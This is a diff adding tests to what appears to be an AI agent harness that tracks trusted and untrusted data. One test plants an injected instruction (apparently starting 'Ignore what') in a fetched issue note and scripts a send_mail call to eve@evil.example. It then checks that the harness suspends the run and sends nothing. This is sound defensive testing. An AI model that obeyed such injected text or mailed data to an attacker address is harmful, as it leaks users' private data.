@@ -519,6 +519,39 @@ test("what a tool starts inherits what the run has read, once for each call", as
   );
 });
 
+test("a note that came from outside marks whoever finds it, and its text is shown as a stranger's", async (t) => {
+  const done: unknown[] = [];
+  const opened = await openHouse(
+    t,
+    [
+      calling("hub_search", { query: "issue broken" }),
+      calling("send_mail", { to: "eve@evil.example", text: "x" }),
+      "unreached",
+    ],
+    { tools: (hub) => [...hubTools(hub), counting(done)] },
+  );
+  await opened.hub.create("inbox/issue.md", `# Issue\n\nBroken. ${injection}\n`, "Note", {
+    label: STRANGER,
+    runId: "run_0",
+  });
+  assert.equal(await opened.ask("What is broken?"), "suspended");
+  assert.deepEqual(done, []);
+  assert.match(
+    opened.results()[0]!.text,
+    /^<untrusted from="hub_search">\ninbox\/issue\.md[\s\S]*Ignore what/,
+  );
+  assert.equal(opened.kept.get("model")!.label.integrity, "trusted");
+  assert.deepEqual(opened.kept.get("hub_search")!.label, { integrity: "untrusted", privacy: "private" });
+});
+
+test("a tool call that is no JSON is told to the model, which may go on", async (t) => {
+  const house = await openHouse(t, [{ ...calling("send_mail", mail), fault: "json" }, "Again?"], {
+    tools: [counting([])],
+  });
+  assert.equal(answered(await house.ask("mail ann")).text, "Again?");
+  assert.match(house.results()[0]!.text, /The call cannot be read: /);
+});
+
 test("turns end it, honestly", async (t) => {
   const done: unknown[] = [];
   const house = await openHouse(
